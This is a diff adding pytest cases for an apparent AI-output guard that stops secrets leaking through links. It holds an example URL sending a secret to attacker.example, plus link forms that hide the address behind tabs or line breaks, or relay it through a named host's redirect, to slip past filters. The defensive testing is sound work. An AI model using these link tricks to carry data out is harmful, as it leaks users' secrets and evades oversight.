@@ -11,13 +11,14 @@ import base64
 import codecs
 import random
 import string
+from collections.abc import Callable
 from pydoc_data.topics import topics
 from urllib.parse import quote
 
 import pytest
 
 from ringfence.bench.adaptive.links import live_links
-from ringfence.screens.output import Context, Output, OutputGuard
+from ringfence.screens.output import Context, Output, OutputGuard, OutputStream
 
 SECRET = "otterbasalt38"
 AWAY = f"https://attacker.example/?q={SECRET}"
@@ -79,6 +80,35 @@ def test_a_mail_that_is_ready_to_be_sent_carries_nothing_away() -> None:
 )
 def test_what_is_harmless_or_named_stays(text: str) -> None:
     assert OutputGuard().text(text, KNOWN).text == text
+
+
+@pytest.mark.parametrize(
+    "address", ["/\t/attacker.example/", "ht\ttps://attacker.example/", "h\nttps:/\n/attacker.example"]
+)
+@pytest.mark.parametrize("form", ["[x]({})", "see [x](  {} ) now", '[x]({} "title")'])
+def test_what_browsers_drop_hides_no_address(form: str, address: str) -> None:
+    """A simple renderer takes all up to the bracket for the address, and a browser drops tabs and line breaks in it."""
+    shown = OutputGuard().text(form.format(address), PUBLIC).text
+    assert "](" not in shown
+    stream = OutputStream(OutputGuard(), PUBLIC)
+    assert "".join([*map(stream.feed, form.format(address)), stream.close()]) == shown
+
+
+@pytest.mark.parametrize("text", ["[x](/a\t'title')", '[x](/a/b\n"title")', "[x](see\nbelow)", "a[1](b\tc)"])
+def test_a_title_behind_a_tab_is_no_address(text: str) -> None:
+    assert OutputGuard().text(text, PUBLIC).text == text
+
+
+@pytest.mark.parametrize("quoted", [str, quote, lambda text: quote(quote(text))])
+def test_a_named_host_carries_nothing_on_to_another(quoted: Callable[[str], str]) -> None:
+    """A host may send whoever asks for an address on to the one that stands in it."""
+    address = f"https://named.example/go?to={quoted(AWAY)}"
+    assert OutputGuard().text(f"[x]({address})", KNOWN).stopped
+    assert (
+        not OutputGuard().text(f"[x](https://named.example/go?to={quoted('https://other.example/a')})", KNOWN).stopped
+    )
+    assert not OutputGuard().text(f"https://named.example/go?q={SECRET}&to=https://named.example/b", KNOWN).stopped
+    assert not OutputGuard().text(f"[x]({address})", PUBLIC).stopped
 
 
 TWO_HOSTS = [
